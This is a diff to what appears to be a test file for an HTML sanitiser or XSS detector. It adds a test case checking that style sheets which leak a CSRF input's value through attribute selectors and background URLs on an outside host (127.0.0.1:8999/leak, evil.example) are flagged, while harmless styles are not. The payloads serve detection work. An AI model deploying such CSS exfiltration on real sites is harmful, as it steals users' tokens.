@@ -3799,3 +3799,8 @@ t.test("forty-second round, its fourth review's payloads: an element's text insi
   t.same(q('<p>Data</p><script type="application/ld+json">{"@context":"https://schema.org","@type":"Person","name":"x"}</script>'), [], 'a data block after a paragraph')
   t.same(q('<svg viewBox="0 0 1 1"><defs><style type="text/css">*{stroke-linecap:butt;}</style></defs><path d="M1"/></svg>'), [], "a drawing's style")
 })
+
+t.test('forty-second round: a style sheet reading an input\'s value out through URLs on another host', async (t) => {
+  for (const v of ['<style>input[name=csrf][value^=s3]{background:url(http://127.0.0.1:8999/leak?prefix=s3)}</style>', '<style>input[value$="a"] { background-image: url(\'//evil.example/a\') }</style>', "<style>@import url('https://fonts.googleapis.com/css?family=Source+Code+Pro');\ninput[name=csrf][value^=s3]{background:url(http://127.0.0.1:8999/leak?prefix=s3)}</style>"]) t.ok(q(v).includes('xss'), v)
+  for (const v of ['<style>input[value^=a]{background:url(/local.png)}</style>', '<style>.x{background:url(https://cdn.example/x.png)}</style>', '<style>input[value=""]{color:gray}</style>']) t.same(q(v), [], v)
+})
